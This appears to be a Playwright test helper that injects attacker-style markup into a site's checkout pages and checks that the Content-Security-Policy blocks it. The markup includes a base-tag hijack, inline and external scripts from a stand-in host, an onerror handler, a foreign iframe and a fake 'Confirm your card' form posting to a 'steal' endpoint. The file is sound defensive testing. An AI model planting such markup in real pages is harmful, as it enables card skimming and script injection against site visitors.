// Markup an attacker would inject into one of our pages if they found a way to.
import assert from 'node:assert/strict'
import type { BrowserContext, Page } from 'playwright-core'
import { eventually } from '@gatehouse/server/src/testing/eventually.ts'

const FOREIGN_URL = 'https://stranger.example'

const MARKUP = `
  <base href="${FOREIGN_URL}/">
  <script>window.stolen = true</script>
  <script src="${FOREIGN_URL}/steal.js"></script>
  <img src="${FOREIGN_URL}/pixel.png" alt="" onerror="window.stolen = true">
  <iframe src="${FOREIGN_URL}/form" title="Stranger"></iframe>
  <form action="${FOREIGN_URL}/steal" method="post"><button>Confirm your card</button></form>`

/** Violations of a page's Content-Security-Policy, by directive. */
type PageWithViolations = { refused?: string[] }

/** A visitor whose checkout pages arrive with injected markup. */
export async function withInjection(visitor: BrowserContext): Promise<{ requests: string[] }> {
  const requests: string[] = []
  await visitor.route(`${FOREIGN_URL}/**`, async route => {
    requests.push(route.request().url())
    await route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
  })
  await visitor.addInitScript(() => {
    const rejected: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      rejected.push(effectiveDirective)
    })
    const page = window as unknown as PageWithViolations
    page.refused = rejected
  })
  await visitor.route('**/checkout/gatehouse_c_*', async route => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `${MARKUP}</body>`)
    await route.fulfill({ response, body })
  })
  return { requests }
}

/**
 * Fails if a page executed or loaded any of the injected markup. The check uses its own tab,
 * because submitting the form leaves it waiting for a navigation that never happens.
 */
export async function expectRejected(
  page: Page,
  { requests }: { requests: string[] },
): Promise<void> {
  const tab = await page.context().newPage()
  await tab.goto(page.url())
  await tab.getByRole('heading', { level: 1 }).waitFor()
  const rejected = () =>
    tab.evaluate(() => [...new Set((window as unknown as PageWithViolations).refused)].toSorted())
  const directives = ['base-uri', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem']
  await eventually(rejected, directives)
  await tab.getByRole('button', { name: 'Confirm your card' }).dispatchEvent('click')
  await eventually(rejected, [...directives, 'form-action'].toSorted())
  assert.equal(await tab.evaluate(() => 'stolen' in window), false)
  assert.deepEqual(requests, [], 'no request was sent to the foreign page')
  assert.equal(tab.url(), page.url())
  await tab.close()
}
